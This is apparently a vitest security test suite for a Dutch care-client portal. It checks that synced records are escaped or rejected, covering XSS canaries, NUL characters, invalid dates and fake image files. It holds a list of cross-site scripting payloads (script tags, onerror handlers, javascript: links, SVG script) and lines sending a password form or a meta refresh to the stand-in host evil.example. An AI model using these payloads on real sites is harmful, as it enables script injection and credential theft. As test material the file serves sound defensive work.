import { CarePlan, CareTeam, Contact, Coverage, Goal, Measurement, Personal } from '@voordeur/core/care'
import type { SyncStep } from '@voordeur/core'
import type { TestBrowser } from '@voordeur/core/testing'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { databases, openAttackedPortal, report, type AttackedPortal } from './attacked-portal.ts'

const CANARY = `<canary onload=alert(1)>"'></title></textarea></script><script>alert(1)</script>`
const place = { file: 'memory' }
const A = { sourceId: 'a', number: '100', name: 'Mevrouw Alblas' }
const B = { sourceId: 'b', number: '200', name: 'De heer Bos' }
const end: SyncStep = { completeSnapshot: true }
const PARTS = ['timeline', 'reading', 'plan', 'contacts', 'personal', 'team', 'measurements', 'coverage']

describe.each(databases)('a record that attacks, on $name', ({ url }) => {
  let attacked: AttackedPortal
  let viewer: TestBrowser & { readonly clientId: string }

  beforeAll(async () => {
    attacked = await openAttackedPortal(url)
    viewer = await attacked.portal.viewer({ clientNumber: '100', name: CANARY })
  })
  afterAll(() => attacked.close())

  const sync = async (steps: readonly SyncStep[]) => {
    attacked.memory.steps = steps
    const result = (await attacked.portal.sync()).get('memory')
    if (result === undefined || result.outcome === 'busy') throw new Error('The source was not read.')
    return result
  }
  const open = async (place_: string) => viewer.get(`/client/${viewer.clientId}${place_}`)

  test('attack 16: a tag in any text of a source becomes an element in no page, and JSON is never read as a page', async () => {
    const records = [
      report('1', CANARY, { topic: CANARY, author: { role: CANARY } }),
      {
        type: CarePlan,
        id: 'p',
        place,
        data: {
          title: CANARY,
          status: 'active',
          problems: [{ text: CANARY }],
          notes: [CANARY],
          activities: [{ description: CANARY, instruction: CANARY, outcome: CANARY, status: CANARY, performers: [{ role: CANARY }] }],
        },
      },
      { type: Goal, id: 'g', place, data: { sourceId: 'g', description: CANARY, status: CANARY, notes: [CANARY], problems: [CANARY] } },
      {
        type: Contact,
        id: 'c',
        place,
        data: {
          name: { display: CANARY },
          telecoms: [
            { kind: 'email', value: 'javascript:alert(1)@x' },
            { kind: 'phone', value: 'javascript:alert(1)' },
            { kind: 'mobile', value: CANARY },
          ],
        },
      },
      { type: CareTeam, id: 't', place, data: { name: CANARY, members: [{ kind: 'staff', staff: { role: CANARY }, role: CANARY }] } },
      {
        type: Measurement,
        id: 'm',
        place,
        data: { code: { code: CANARY }, label: CANARY, measuredAt: '2026-11-20T08:00:00+01:00', text: CANARY, notes: [CANARY] },
      },
      { type: Personal, id: 'me', place, data: { name: { display: CANARY } } },
      { type: Coverage, id: 'v', place, data: { insurer: CANARY } },
    ]
    const { report: told } = await sync([
      { client: { ...A, name: CANARY }, records, complete: [] },
      { client: B, records: [], complete: [] },
      end,
    ])
    // What does not fit its schema would be no attack that was tried.
    expect(told.rejections).toEqual([])
    for (const path of ['', ...PARTS.map((part) => `/dossier/${part}`)]) {
      const page = await open(path)
      expect([page.status, page.text.includes('&lt;canary')]).toEqual([200, true])
      expect(page.text).not.toMatch(/<canary|<script>|href="javascript:/i)
      expect(page.text.split('</title>')).toHaveLength(2)
      const json = await viewer.json(`/client/${viewer.clientId}${path}`)
      expect(json.headers.get('content-type')).toBe('application/json; charset=utf-8')
      expect(json.headers.get('x-content-type-options')).toBe('nosniff')
    }
  })

  test.each([
    ['a script', '<p>Plan</p><script>alert(1)</script>'],
    ['a picture', '<p>Plan</p><img src=x onerror=alert(1)>'],
    ['a link', '<p>Plan <a href="javascript:alert(1)">x</a></p>'],
    ['a form', '<p>Plan</p><form action="https://evil.example"><input name="wachtwoord"></form>'],
    ['a refresh', '<p>Plan</p><meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ['an event', '<p onclick="alert(1)">Plan</p>'],
    ['a style', '<p style="position:fixed;inset:0">Plan</p>'],
    ['a class', '<p class="notice">Plan</p>'],
    ['a drawing', '<svg><script>alert(1)</script></svg><p>Plan</p>'],
    ['a comment', '<!--><img src=x onerror=alert(1)>--><p>Plan</p>'],
    ['an open tag', '<p>Plan</p><img src=x onerror=alert(1) '],
    ['a slash for a space', '<p>Plan</p><img/src=x/onerror=alert(1)>'],
  ])('attack 16: formatted text with %s is shown as it is written, also from a source that sanitises nothing', async (_, html) => {
    const plan = { type: CarePlan, id: 'p', place, data: { title: 'Plan', status: 'active', html } }
    await sync([{ client: A, records: [plan], complete: [] }, { client: B, records: [], complete: [] }, end])
    const page = await open('/dossier/plan')
    expect(page.text).toContain(html.slice(0, 4).replace('<', '&lt;'))
    expect(page.text).not.toContain(html)
  })

  test('attack 16: the role that takes the place of a name in formatted text brings no element along', async () => {
    const plan = { type: CarePlan, id: 'p', place, data: { title: 'Plan', status: 'active', html: '<p>Gemaakt door Anja de Vries.</p>' } }
    await sync([
      { staff: [{ name: 'Anja de Vries', role: CANARY }] },
      { client: A, records: [plan], complete: [] },
      { client: B, records: [], complete: [] },
      end,
    ])
    const page = await open('/dossier/plan')
    expect(page.text).not.toContain('Anja')
    expect(page.text).not.toMatch(/<canary|<script>/)
  })

  test('formatted text that is only words, lists and tables keeps its form', async () => {
    const html = '<p>Wandelen &amp; <strong>lezen</strong><br /></p><table><tbody><tr><td colspan="2">Maandag</td></tr></tbody></table>'
    const plan = { type: CarePlan, id: 'p', place, data: { title: 'Plan', status: 'active', html } }
    await sync([{ client: A, records: [plan], complete: [] }, { client: B, records: [], complete: [] }, end])
    expect((await open('/dossier/plan')).text).toContain(html)
  })

  test.each([
    ['U+0000', 'a\u0000b'],
    ['half a surrogate pair', 'a\uD800b'],
    ['the other half', '\uDC00'],
  ])('a report with %s costs itself, and stops nobody’s sync', async (_, text) => {
    const bos = `Bos heeft gegeten ${crypto.randomUUID()}`
    const result = await sync([
      { client: A, records: [report('1', text), report('3', 'Goed')], complete: [] },
      { client: B, records: [report('2', bos)], complete: [] },
      end,
    ])
    expect(result).toMatchObject({ outcome: 'done', report: { rejections: [{ type: 'report', place }] } })
    const other = await attacked.portal.viewer({ clientNumber: '200' })
    expect((await other.get(`/client/${other.clientId}/dossier/timeline`)).text).toContain(bos)
  })

  test.each([
    ['the name of a client', { ...A, name: 'a\u0000b' }],
    ['the number of a client', { ...A, number: '100\u0000' }],
    ['the id of a client', { ...A, sourceId: 'a\u0000' }],
  ])('U+0000 in %s costs that client, and stops nobody else’s sync', async (_, client) => {
    const bos = `Bos heeft geslapen ${crypto.randomUUID()}`
    const result = await sync([{ client, records: [], complete: [] }, { client: B, records: [report('2', bos)], complete: [] }, end])
    expect(result).toMatchObject({ outcome: 'done', report: { rejections: [{ type: 'client' }] } })
    const other = await attacked.portal.viewer({ clientNumber: '200' })
    expect((await other.get(`/client/${other.clientId}/dossier/timeline`)).text).toContain(bos)
  })

  test.each([
    'infinity',
    '-infinity',
    'tomorrow',
    'now',
    'epoch',
    '10000-01-01',
    '2026-02-30',
    '22-11-2026',
    '2026-11-22T00:00',
    '0044-03-15 BC',
    '1899-12-31',
    '',
  ])('an end of care on %j opens no record for ever and breaks no page', async (careEndedOn) => {
    const result = await sync([{ client: { ...A, careEndedOn }, records: [], complete: [] }, { client: B, records: [], complete: [] }, end])
    expect(result).toMatchObject({ outcome: 'done', report: { rejections: [{ type: 'client' }] } })
    expect((await open('/dossier/timeline')).status).toBe(200)
  })

  test('U+0000 in a name of staff stops nothing', async () => {
    const result = await sync([
      { staff: [{ name: 'Anja\u0000 de Vries' }, { name: 'Piet Bakker' }] },
      { client: A, records: [], complete: [] },
      { client: B, records: [], complete: [] },
      end,
    ])
    expect(result.outcome).toBe('done')
  })

  test.each([
    ['an SVG', '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script><rect width="9" height="9"/></svg>'],
    ['an SVG behind an XML declaration', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>'],
    ['a page', '<html><script>alert(1)</script></html>'],
    ['a GIF that breaks off', 'GIF89a\u0001\u0000\u0001\u0000'],
    ['a PNG that breaks off', '\u0089PNG\r\n\u001A\n'],
    ['nothing', ''],
  ])('attack 17: %s is no photo', async (_, content) => {
    const photo = { bytes: Buffer.from(content, 'latin1'), place: { file: 'photos/a.png' } }
    const result = await sync([{ client: A, records: [], complete: [], photo }, { client: B, records: [], complete: [] }, end])
    expect(result).toMatchObject({ outcome: 'done', report: { rejections: [{ type: 'photo', place: photo.place }] } })
    expect((await open('/photo')).status).toBe(404)
  })
})
